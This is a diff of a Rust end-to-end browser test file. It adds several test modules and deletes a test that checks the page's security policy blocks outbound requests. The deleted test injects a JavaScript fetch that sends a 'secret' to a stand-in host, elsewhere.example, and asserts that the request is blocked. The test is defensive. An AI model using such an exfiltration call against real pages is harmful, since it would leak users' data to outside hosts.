@@ -7,10 +7,16 @@
     reason = "helpers of tests: a failure here is a failed test"
 )]
 
+mod access;
+mod axe;
+mod checking;
 mod driver;
 mod forms;
+mod guide;
+mod looking;
 mod opening;
 mod page;
+mod sealed;
 mod sink;
 
 use std::time::Duration;
@@ -120,26 +126,6 @@ async fn the_worker_gives_the_same_and_gets_numbers_only() {
     page.verdict().await;
     assert_eq!(text(&page.download("#download-table").await), folder.text("out.csv"));
     assert_eq!(text(&page.download("#download-classes").await), folder.text("classes.csv"));
-    page.close().await;
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn nothing_leaves_the_origin_and_the_policy_sees_to_it() {
-    let page = Page::open(&[]).await;
-    // The sample's way through, and then an attempt to send something out.
-    page.click("#sample-hospital").await;
-    page.find("#opened").await;
-    let attempt = "const done = arguments[arguments.length - 1];\
-        fetch('http://elsewhere.example/?secret').then(() => done('sent'), () => done('blocked'));";
-    assert_eq!(page.client.execute_async(attempt, vec![]).await.unwrap(), json!("blocked"));
-    assert_eq!(page.sink.requests(), Vec::<String>::new());
-    // The proxy does see what is not blocked: a navigation is beyond any policy.
-    let _ = page.client.goto("http://elsewhere.example/").await;
-    assert!(
-        page.sink.requests().iter().any(|r| r.contains("elsewhere.example")),
-        "{:?}",
-        page.sink.requests()
-    );
     page.close().await;
 }
 
